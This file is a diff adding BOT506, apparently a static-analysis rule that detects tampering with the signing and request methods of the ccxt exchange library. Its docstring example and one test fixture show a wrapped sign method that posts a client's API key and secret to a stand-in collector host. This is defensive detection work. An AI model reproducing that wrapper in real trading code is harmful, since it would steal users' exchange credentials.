@@ -1,0 +1,313 @@
+"""BOT506: an exchange library's signing or request methods replaced or wrapped."""
+from __future__ import annotations
+
+from functools import lru_cache
+from typing import List, Optional
+
+import libcst as cst
+
+from ... import venues
+from ...analysis.clients import ClientTracker
+from ...analysis.hosts import host_of, is_exchange_host, is_local_host
+from ...analysis.imports import dotted
+from ...analysis.literals import literal_str
+from ...analysis.payloads import host_kind
+from ...analysis.syntax import LiteralPrecheck
+from ...model import Severity
+from ._family import Bot5Walk, is_network_call, obfuscated_str
+
+PRECHECK = LiteralPrecheck(("ccxt", "setattr", "sign", "request", "describe", "fetch"))
+
+# methods through which every key, signature or request of a client passes
+TAMPER_METHODS = frozenset(
+    """sign request fetch fetch2 describe sign_request handle_errors _request _sign _generate_signature
+    _create_signature create_signature _request_api _signed_request _send_request send_request api_request
+    private_request _init_session hmac set_credentials""".split()
+)
+_CCXT_ONLY = frozenset(("__init__",))
+
+
+def tamper_method(attr: str) -> bool:
+    """A method every signed request passes through: the fixed list, and SDK spellings
+    (pybit ``_submit_request``, python-binance ``_request_api``, ``_generate_signature``,
+    ``_get_auth_headers``)."""
+    low = attr.lower()
+    return attr in TAMPER_METHODS or "request" in low or "signature" in low or "auth" in low \
+        or low.lstrip("_").startswith("sign")
+
+
+class ExchangeLibraryTampering(Bot5Walk):
+    """## What it does
+    Finds code that replaces or wraps the methods an exchange library signs and sends requests
+    with: assignments and `setattr` on a ccxt class or module (`ccxt.Exchange.sign = ...`,
+    `setattr(ccxt.binance, "request", f)`), on an SDK client class, or on a client object
+    (`exchange.sign = my_sign`), and subclasses of a ccxt exchange that override `sign`,
+    `request`, `fetch`, `fetch2` or `describe` with code that makes a network request of its
+    own (`requests`, `urllib`, `socket`, a chat API), or a `describe` that points the API URLs
+    at a host that is not an exchange's.
+
+    ## Why is this bad?
+    Every API key, secret and signed request of the client passes through these methods.  A
+    "plugin" that patches them can copy your keys to the author's server while the bot trades
+    normally; the trojanised `ccxt-mexc-futures` package did this to ccxt's mexc `describe`
+    and `sign` to redirect requests and capture keys.
+
+    ## Example
+    ```python
+    _orig = ccxt.Exchange.sign
+    def sign(self, *args, **kw):
+        requests.post("https://collector.example.net", json={"k": self.apiKey, "s": self.secret})
+        return _orig(self, *args, **kw)
+    ccxt.Exchange.sign = sign
+    ```
+
+    ## Use instead
+    ```python
+    exchange = ccxt.binance({"apiKey": key, "secret": secret})  # use the library as shipped
+    ```
+
+    ## Known problems
+    Test doubles are not reported: a mock (`MagicMock()`, `AsyncMock()`, `mocker.patch...`),
+    or a function of the module that neither calls the method it replaces, nor makes a
+    request, nor names a URL (a stub returning canned responses).  An override that sends
+    data through a helper defined elsewhere is not seen.
+
+    ## References
+    - [CWE-506: Embedded Malicious Code](https://cwe.mitre.org/data/definitions/506.html)
+    - [Socket: malicious PyPI package ccxt-mexc-futures targets crypto traders](https://socket.dev/blog/)
+    """
+
+    CODE = "BOT506"
+    NAME = "exchange-library-tampering"
+    SEVERITY = Severity.CRITICAL
+    CWE = 506
+    MESSAGE = "Exchange library's signing or request method replaced"
+    PRECHECK = PRECHECK
+    ANALYSES = ("clients",)
+    VALID = (
+        'import ccxt\nclass Bot:\n    def sign(self, payload):\n        return payload\n\n'
+        'bot = Bot()\nbot.sign = print\n',
+        'import ccxt\nfrom unittest.mock import MagicMock\nex = ccxt.binance()\nex.fetch = MagicMock()\n',
+        'import ccxt\nex = ccxt.binance()\n\ndef fetch(url, method="GET", headers=None, body=None):\n'
+        '    return {"result": []}\n\nex.fetch = fetch\n',
+        'import ccxt\nclass MyBinance(ccxt.binance):\n    def describe(self):\n'
+        '        return self.deep_extend(super().describe(), {"options": {"defaultType": "future"}})\n',
+        'import ccxt, requests\nclass Proxied(ccxt.binance):\n'
+        '    def fetch(self, url, method="GET", headers=None, body=None):\n'
+        '        return requests.request(method, url, headers=headers, data=body, proxies=PROXIES).json()\n',
+    )
+    INVALID = (
+        'import ccxt\n_sign = ccxt.Exchange.sign\n\ndef spy(self, *a, **k):\n    return _sign(self, *a, **k)\n\n'
+        'ccxt.Exchange.sign = spy\n',
+        'import ccxt\nfrom plugin import hook\nsetattr(ccxt.binance, "request", hook)\n',
+        'import ccxt\nex = ccxt.binance({"apiKey": k, "secret": s})\nex.sign = my_sign\n',
+        'import ccxt, requests\nclass binance(ccxt.binance):\n    def sign(self, path, *args, **kw):\n'
+        '        requests.post("https://c.example.net", json={"k": self.apiKey, "s": self.secret})\n'
+        '        return super().sign(path, *args, **kw)\n',
+    )
+
+    def __init__(self, ctx) -> None:
+        super().__init__(ctx)
+        self.tracker = ClientTracker.shared(ctx)
+        self.assigns: List[tuple] = []
+        self.overrides: List[tuple] = []
+        self.class_stack: List[Optional[str]] = []
+
+    def visit_Assign(self, node: cst.Assign) -> None:
+        super().visit_Assign(node)
+        for t in node.targets:
+            target = t.target
+            if isinstance(target, cst.Attribute) and (
+                    tamper_method(target.attr.value) or target.attr.value in _CCXT_ONLY):
+                self.assigns.append((node, target.value, target.attr.value, node.value))
+
+    def visit_Call(self, node: cst.Call) -> None:
+        if dotted(node.func) == "setattr" and len(node.args) >= 3:
+            self.assigns.append((node, node.args[0].value, node.args[1].value, node.args[2].value))
+
+    def visit_ClassDef(self, node: cst.ClassDef) -> None:
+        super().visit_ClassDef(node)
+        base = None
+        for b in node.bases:
+            r = self.ctx.qualified(b.value) or ""
+            if r.split(".")[0] == "ccxt":
+                base = r
+        self.class_stack.append(base)
+
+    def leave_ClassDef(self, original_node: cst.ClassDef) -> None:
+        self.class_stack.pop()
+
+    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
+        super().visit_FunctionDef(node)
+        if self.class_stack and self.class_stack[-1] and tamper_method(node.name.value):
+            self.overrides.append((node, self.class_stack[-1]))
+
+    def leave_Module(self, original_node: cst.Module) -> None:
+        for node, recv, attr_node, value in self.assigns:
+            attr = attr_node if isinstance(attr_node, str) else obfuscated_str(attr_node, self.names)[0]
+            if not attr or not (tamper_method(attr) or attr in _CCXT_ONLY):
+                continue
+            if _is_mock(value) or self._stub(value, attr):
+                continue
+            owner = self._owner(recv, attr)
+            if owner:
+                self.report(node, f"replaces `{attr}` of {owner}: every key and signed request of the client "
+                                  "passes through it")
+        for fn, base in self.overrides:
+            if fn.name.value == "describe":
+                # ccxt's own exchange classes (and a module of the ccxt package) define the
+                # URLs, they do not redirect them
+                own = self.ctx.module_name.startswith("ccxt.") or base.startswith("ccxt.abstract.") \
+                    or "/ccxt/" in "/" + self.ctx.path.replace("\\", "/")
+                host = "" if own else _foreign_url(fn)
+                if host and _same_venue(host, base):
+                    host = ""
+                if host:
+                    self.report(fn, f"overrides `describe` of {base} to point the client's API at {host_kind(host)} "
+                                    f"({host}): every key and signed request goes there")
+                    continue
+            sends = _network_call(fn, self.ctx)
+            if sends:
+                self.report(fn, f"overrides `{fn.name.value}` of {base} with code that makes its own network request "
+                                f"({sends}): the client's keys and requests can be copied elsewhere")
+
+    def _stub(self, value: cst.CSTNode, attr: str) -> bool:
+        """A test double: a function of this module (or a lambda) that neither calls the
+        method it replaces (a wrapper keeps the bot working while it copies what passes) nor
+        makes a request nor names a URL: it only cuts the client off (canned responses)."""
+        body: Optional[cst.CSTNode] = None
+        if isinstance(value, cst.Lambda):
+            body = value.body
+        elif isinstance(value, cst.Name) and value.value in self.names.functions:
+            body = self.names.functions[value.value].body
+        if body is None:
+            return False
+        originals = {name for name, values in self.names.values.items()
+                     if any(isinstance(v, cst.Attribute) and v.attr.value == attr for v in values)}
+        ctx = self.ctx
+        suspicious: List[bool] = []
+
+        class _Look(cst.CSTVisitor):
+            def visit_Call(self, node: cst.Call) -> None:
+                if is_network_call(ctx.qualified(node.func) or "") or dotted(node.func) == "super":
+                    suspicious.append(True)
+
+            def visit_Attribute(self, node: cst.Attribute) -> None:
+                if node.attr.value == attr:
+                    suspicious.append(True)
+
+            def visit_Name(self, node: cst.Name) -> None:
+                if node.value in originals:
+                    suspicious.append(True)
+
+            def visit_SimpleString(self, node: cst.SimpleString) -> None:
+                if "://" in (literal_str(node) or ""):
+                    suspicious.append(True)
+
+        body.visit(_Look())
+        return not suspicious
+
+    def _owner(self, recv: cst.CSTNode, attr: str) -> Optional[str]:
+        resolved = self.ctx.qualified(recv) or ""
+        head = resolved.split(".")[0]
+        if head == "ccxt":
+            return resolved
+        if attr in _CCXT_ONLY:
+            return None
+        if resolved and venues.sdk_by_head(head) and resolved != head:
+            return resolved
+        clients = self.tracker.clients_of(recv)
+        if clients:
+            return "the " + sorted(c.label for c in clients)[0] + " client"
+        if isinstance(recv, cst.Attribute) and recv.attr.value in ("session", "_session") \
+                and attr in ("request", "_request", "send"):
+            clients = self.tracker.clients_of(recv.value)
+            if clients:
+                return "the " + sorted(c.label for c in clients)[0] + " client's HTTP session"
+        return None
+
+
+def _is_mock(value: cst.CSTNode) -> bool:
+    stack: List[cst.CSTNode] = [value]
+    while stack:
+        n = stack.pop()
+        if isinstance(n, cst.Call):
+            name = dotted(n.func) or ""
+            if "mock" in name.lower() or "patch" in name.lower():
+                return True
+            stack.append(n.func)
+        elif isinstance(n, cst.Name) and "mock" in n.value.lower():
+            return True
+        elif isinstance(n, cst.Attribute):
+            stack.append(n.value)
+    return False
+
+
+@lru_cache(maxsize=1)
+def _venue_domains() -> frozenset:
+    """The last two labels of every REST host ccxt's pinned release knows (websocket hosts of
+    the same venues share them: ``stream.bydfi.com``, ``ws-evm.orderly.org``)."""
+    return frozenset(".".join(h.lower().split(".")[-2:]) for h in venues.tables().hosts)
+
+
+def _same_venue(host: str, base: str) -> bool:
+    """``stream.bydfi.com`` for a subclass of ``ccxt.async_support.bydfi``: the exchange's own
+    host (websocket hosts are not all in the host table)."""
+    if ".".join(host.lower().split(".")[-2:]) in _venue_domains():
+        return True
+    venue = base.rsplit(".", 1)[-1].lower()
+    labels = [x for x in host.lower().split(".")[:-1] if len(x) >= 3]
+    return any(venue in label or (len(label) >= 4 and venue.startswith(label)) for label in labels)
+
+
+def _foreign_url(fn: cst.FunctionDef) -> str:
+    """The first URL under an ``"api"`` key of ``fn`` (ccxt's ``describe()["urls"]["api"]``,
+    where requests go; not the logo, docs or fee links) whose host is neither an exchange's
+    nor local."""
+    found: List[str] = []
+
+    class _Urls(cst.CSTVisitor):
+        def visit_SimpleString(self, node: cst.SimpleString) -> None:
+            text = literal_str(node) or ""
+            host = host_of(text) if "://" in text and "{" not in text else None
+            if host and not found and not is_exchange_host(host) and not is_local_host(host):
+                found.append(host)
+
+    class _Api(cst.CSTVisitor):
+        def visit_DictElement(self, node: cst.DictElement) -> Optional[bool]:
+            if literal_str(node.key) == "api":
+                node.value.visit(_Urls())
+                return False
+            return True
+
+    fn.body.visit(_Api())
+    return found[0] if found else ""
+
+
+def _network_call(fn: cst.FunctionDef, ctx) -> str:
+    """The first network call inside ``fn`` that goes somewhere of its own: not to the URL the
+    client handed the method (a transport swapped for ``requests`` with a proxy is the client's
+    own request), nor to an exchange's host."""
+    found: List[str] = []
+    params = {p.name.value for p in (*fn.params.params, *fn.params.kwonly_params, *fn.params.posonly_params)}
+
+    class _Calls(cst.CSTVisitor):
+        def visit_Call(self, node: cst.Call) -> None:
+            if found:
+                return
+            name = ctx.qualified(node.func) or ""
+            if not is_network_call(name):
+                return
+            args = [a.value for a in node.args if a.keyword is None]
+            url = next((a.value for a in node.args if a.keyword and a.keyword.value == "url"), None)
+            if url is None and args:
+                url = args[1] if name.rsplit(".", 1)[-1] == "request" and len(args) > 1 else args[0]
+            if isinstance(url, cst.Name) and url.value in params:
+                return
+            host = host_of(literal_str(url) or "") if url is not None else None
+            if host and (is_exchange_host(host) or is_local_host(host)):
+                return
+            found.append(name)
+
+    fn.body.visit(_Calls())
+    return found[0] if found else ""
